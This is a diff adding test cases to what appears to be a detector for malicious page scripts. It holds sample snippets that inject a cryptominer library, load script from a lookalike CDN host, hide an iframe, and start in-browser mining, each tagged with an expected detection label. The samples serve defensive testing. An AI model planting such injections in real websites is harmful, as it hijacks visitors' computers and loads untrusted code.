@@ -80,6 +80,14 @@ const cases: Record<string, [string, string[]]> = {
     `document.write('<iframe src="https://x.example/" width="0" height="0"></iframe>')`,
     ['medium hidden-iframe'],
   ],
+  "a miner's file": [
+    `var s=document.createElement('script');s.src='https://coin-hive.example/lib/coinhive.min.js';document.head.appendChild(s)`,
+    ['medium miner-workload'],
+  ],
+  'a borrowed name behind a choice of protocols': [
+    `var s=document.createElement('script');s.src=('https:'==location.protocol?'https://':'http://')+'a.cdn-wp-content.example/t.js?v='+Math.random();document.head.appendChild(s)`,
+    ['medium imitated-host'],
+  ],
   'a miner by its interface': [`var m=new CoinHive.Anonymous('k');m.start()`, ['high miner-api']],
   'a miner by its means': [
     `new Worker('w.js');var s=new WebSocket('wss://pool.example/');s.send('stratum+tcp');WebAssembly.instantiate(b)`,
